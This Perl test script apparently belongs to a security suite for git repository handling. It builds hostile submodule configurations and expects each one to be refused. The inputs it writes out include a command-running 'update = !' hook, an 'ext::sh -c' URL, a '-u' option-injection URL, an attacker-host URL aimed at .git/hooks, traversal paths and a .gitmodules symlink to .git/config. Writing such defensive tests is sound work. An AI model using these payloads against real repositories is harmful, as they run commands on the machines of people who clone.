# title: Submodules and .gitmodules: gitlinks, ext:: and -u URLs, paths into .git, a link as .gitmodules.
# expect: submodule, or git's own check; no submodule is ever fetched.
# control: honest
use strict;
use warnings;
use Attack qw(succeeded refused inconclusive facts);
use Door;
use Bundle;

my $modules = sub { my ($url, $path) = @_; return blob("[submodule \"x\"]\n\tpath = " . ($path // 'x') . "\n\turl = $url\n\tupdate = !touch /tmp/x\n") };
my $commit = base_commit();
my @trees = ('a gitlink' => [with_file(['160000', 'x', $commit]), []], 'a gitlink to nowhere' => [with_file(['160000', 'x', '1' x 40]), []]);
for my $case (['ext::sh -c touch% /tmp/x'], ['-u./payload'], ['https://attacker.test/x', '../.git/hooks'], ['file:///etc'], ['../../../x', '-x']) {
    my $blob = $modules->(@$case);
    push @trees, ".gitmodules with $case->[0]" => [with_file(['100644', '.gitmodules', $blob], ['160000', 'x', $commit]), [$blob]];
}
my $link = blob('.git/config');
push @trees, '.gitmodules as a link' => [with_file(['120000', '.gitmodules', $link]), [$link]];
hostile('submodule|bundle-refused|bad-path|bad-link', @trees);
